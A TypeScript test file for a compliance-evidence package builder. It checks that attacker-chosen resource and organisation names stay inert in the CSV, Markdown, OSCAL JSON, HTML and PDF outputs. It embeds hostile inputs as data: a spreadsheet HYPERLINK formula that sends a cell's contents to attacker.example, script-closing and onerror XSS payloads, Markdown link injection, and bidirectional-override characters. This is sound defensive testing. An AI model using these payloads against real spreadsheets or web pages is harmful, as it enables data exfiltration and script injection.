import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { chmodSync, cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { execFileSync } from 'node:child_process';
import { chromium, type Browser } from 'playwright-core';
import { buildPackage } from '../../src/package/build.js';
import { extractPackageZip } from '../../src/verify/unzip.js';
import { parseCsv } from '../../src/csv-parse.js';
import { MemoryStore, TEST_CATALOG, fixtureEvaluate, sealDays, standardDays } from './fixtures.js';
import { oscalSchemaErrors } from './oscal-schema.js';
import { verifyPackageDir } from '../../src/verify/package.js';
import { PACKAGE_FILES } from '../../src/package/manifest.js';
import { sha256Hex } from '../../src/evidence/hash.js';
import type { LocalEd25519Signer } from '../../src/seal/local-signer.js';
import { findingsCsvBeforeRevision7, remanifest, type EditableManifest } from '../support/resign-package.js';
import { resignSums } from '../support/verify-sh.js';

const CHROMIUM = '/usr/bin/chromium';

/**
 * A resource name as an account owner can choose one (a tag value, a security group description, a finding title):
 * a spreadsheet formula, markup that closes the data script, an event handler, quotes, a comma, a line break and a
 * right-to-left override (a browser shows "DELIAF" after it as "FAILED") and a zero-width space.
 */
const HOSTILE = '=HYPERLINK("https://attacker.example/?d="&A1,"open")</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">\'",\n\u202eDELIAF\u200b';
const ORG = 'Acme <b onmouseover="window.__pwned=3">Payments</b> & "Co" [verified by the QSA](https://attacker.example/) ![seal](https://attacker.example/seal.png) *PASS* `x`';

/** HOSTILE as a CSV view shows it: the override and the zero-width space by code point. */
const HOSTILE_SHOWN = HOSTILE.replace('\u202e', '[U+202E]').replace('\u200b', '[U+200B]');
const RESULT_CSVS = ['controls.csv', 'findings.csv', 'population.csv', 'testing-procedures.csv'];

describe('names chosen in a member account, in every view of the package', () => {
  let dir: string;
  let signer: LocalEd25519Signer;

  beforeAll(async () => {
    const store = new MemoryStore();
    const tmp = mkdtempSync(join(tmpdir(), 'el-hostile-'));
    signer = await sealDays(store, standardDays().slice(0, 2).map((d) => ({ ...d, extraBucket: { name: HOSTILE, encrypted: false } })));
    const pkg = await buildPackage({ store, signer, catalogs: [TEST_CATALOG], frameworks: ['test-fw'], from: '2026-03-01', to: '2026-03-02', outDir: join(tmp, 'out'), evaluate: fixtureEvaluate, organization: ORG });
    dir = join(tmp, 'pkg');
    await extractPackageZip(pkg.zipPath, dir);
  }, 240_000);

  it('every CSV cell holding the name parses back to it, prefixed with \' so no spreadsheet evaluates it, its bidirectional and zero-width characters shown by code point', () => {
    let seen = 0;
    for (const f of RESULT_CSVS) {
      const text = readFileSync(join(dir, f), 'utf8');
      expect(text, `${f}: a bidirectional or zero-width character`).not.toMatch(/[\u202e\u200b]/);
      for (const row of parseCsv(text)) {
        for (const cell of row) {
          expect(cell, `${f}: a cell starts with a formula character`).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
          if (cell.includes('HYPERLINK')) seen++;
          if (cell.startsWith("'=HYPERLINK")) expect(cell.slice(1).startsWith(HOSTILE_SHOWN)).toBe(true);
        }
      }
    }
    expect(seen).toBeGreaterThan(0);
  });

  it('VERIFY.md prints the organisation as text on its line: no link, image, emphasis or markup a Markdown viewer would render', () => {
    const guide = readFileSync(join(dir, 'VERIFY.md'), 'utf8');
    const line = guide.split('\n').find((l) => l.startsWith('Organisation: '))!;
    expect(line).toBe(
      'Organisation: Acme \\<b onmouseover="window.\\_\\_pwned=3"\\>Payments\\</b\\> \\& "Co" \\[verified by the QSA\\](https\\://attacker\\.example/) \\!\\[seal\\](https\\://attacker\\.example/seal\\.png) \\*PASS\\* \\`x\\`',
    );
    // Every Markdown or HTML metacharacter of the name is escaped: none is left bare to open a link, an image or a tag.
    expect(line.slice('Organisation: '.length)).not.toMatch(/(^|[^\\])[<>[\]*_`&!]/);
  });

  it('verify --recompute of a package an earlier build wrote (summary revision 6, the name verbatim in its CSVs) finds it identical', async () => {
    const older = join(dirname(dir), 'older');
    cpSync(dir, older, { recursive: true });
    const rewrite = (path: string, bytes: Buffer, m: EditableManifest) => {
      chmodSync(join(older, path), 0o644);
      writeFileSync(join(older, path), bytes);
      Object.assign(m.files.find((f) => f.path === path)!, { sha256: sha256Hex(bytes), size: bytes.length });
    };
    await remanifest(older, signer, (m) => {
      for (const f of RESULT_CSVS) rewrite(f, Buffer.from(readFileSync(join(older, f), 'utf8').replaceAll('[U+202E]', '\u202e').replaceAll('[U+200B]', '\u200b')), m);
      // Builds of revision 6 wrote findings.csv without its last column, severity_raised.
      rewrite('findings.csv', findingsCsvBeforeRevision7(older), m);
      const summary = JSON.parse(readFileSync(join(older, PACKAGE_FILES.summary), 'utf8')) as Record<string, unknown>;
      rewrite(PACKAGE_FILES.summary, Buffer.from(JSON.stringify({ ...summary, summaryRevision: 6 }, null, 1) + '\n'), m);
    });
    await resignSums(older, signer);
    expect(readFileSync(join(older, 'findings.csv'), 'utf8')).toContain('\u202eDELIAF');
    const fp = await signer.fingerprint();
    const v = await verifyPackageDir(older, { expectedKeys: [fp], recompute: { evaluate: fixtureEvaluate } });
    expect(v.problems).toEqual([]);
    expect(v.recompute?.ran).toBe(true);
    expect(v.ok).toBe(true);
    // The package as this build wrote it recomputes identical too.
    const current = await verifyPackageDir(dir, { expectedKeys: [fp], recompute: { evaluate: fixtureEvaluate } });
    expect(current.problems).toEqual([]);
  }, 240_000);

  it('the OSCAL assessment results are valid JSON and fit the schema, with the name as it was collected', () => {
    const text = readFileSync(join(dir, 'oscal', 'assessment-results.json'), 'utf8');
    const doc = JSON.parse(text) as unknown;
    expect(oscalSchemaErrors(doc)).toEqual([]);
    // The same value, its override and zero-width space written as JSON escapes: a viewer of the raw file shows them.
    expect(text).toContain(JSON.stringify(HOSTILE).slice(1, -1).replace('\u202e', '\\u202e').replace('\u200b', '\\u200b'));
    expect(text).not.toMatch(/[\u202e\u200b]/);
    expect(JSON.stringify(doc)).toContain(JSON.stringify(HOSTILE).slice(1, -1));
  });

  it('index.html carries no markup of the name: it closes no script element and adds no element', () => {
    const html = readFileSync(join(dir, 'index.html'), 'utf8');
    expect(html.match(/<\/script>/g)).toHaveLength(2);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b onmouseover');
    expect(html).toMatch(/script-src 'sha256-[A-Za-z0-9+/]+={0,2}'/);
    expect(html).not.toMatch(/script-src[^;]*'unsafe-inline'/);
  });

  it.skipIf(!existsSync('/usr/bin/pdftotext'))('report.pdf shows the failing resource and the organisation as text', () => {
    const text = execFileSync('pdftotext', ['-layout', join(dir, 'report.pdf'), '-'], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
    expect(text).toContain('HYPERLINK');
    expect(text).toContain('Acme <b onmouseover');
    // The line break in the name is shown, not obeyed: no line of the report starts with the text after it.
    expect(text).toContain('\\u000a[U+202E]DELIAF');
    expect(text).not.toMatch(/^\s*\?DELIAF/m);
  });

  describe.skipIf(!existsSync(CHROMIUM))('in headless Chromium', () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'] });
    }, 120_000);
    afterAll(async () => {
      await browser?.close();
    });

    async function pwned(file: string, fragment: string): Promise<{ flag: unknown; text: string; errors: string[] }> {
      const page = await browser.newPage();
      const errors: string[] = [];
      page.on('pageerror', (e) => errors.push(String(e)));
      await page.goto(pathToFileURL(file).href + fragment);
      await page.locator('#detail').waitFor();
      await page.locator('#detail img, #detail b').first().hover({ timeout: 500 }).catch(() => undefined);
      const flag = await page.evaluate(() => (globalThis as unknown as { __pwned?: unknown }).__pwned);
      // Collapsed sections (the findings register, the population) are opened, so their text is read too.
      for (const d of await page.locator('details').all()) await d.evaluate((e) => e.setAttribute('open', ''));
      const text = await page.locator('body').innerText();
      await page.close();
      return { flag, text, errors };
    }

    it('the name shows as text in #findings and #summary; nothing in it runs', async () => {
      for (const fragment of ['#findings', '#summary']) {
        const r = await pwned(join(dir, 'index.html'), fragment);
        expect(r.errors).toEqual([]);
        expect(r.flag).toBeUndefined();
        expect(r.text).toContain('</script><script>window.__pwned=1</script>');
        expect(r.text).toContain('Acme <b onmouseover');
        // The override and the zero-width space are shown, not obeyed.
        expect(r.text).toContain('[U+202E]DELIAF[U+200B]');
        expect(r.text).not.toMatch(/[\u202e\u200b]/);
      }
    }, 120_000);

    it('were a name ever written into the page unescaped, its script and event handler would not run (the policy allows the page\'s own script only)', async () => {
      const html = readFileSync(join(dir, 'index.html'), 'utf8');
      const file = join(dir, 'index-unescaped.html');
      writeFileSync(file, html.replace('<div id="assessor-src" hidden>', '<div><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"></div><div id="assessor-src" hidden>'));
      const r = await pwned(file, '#summary');
      expect(r.flag).toBeUndefined();
      // The page's own script still runs under the policy: the summary view was drawn.
      expect(r.text).toContain('Charts');
    }, 120_000);
  });
});
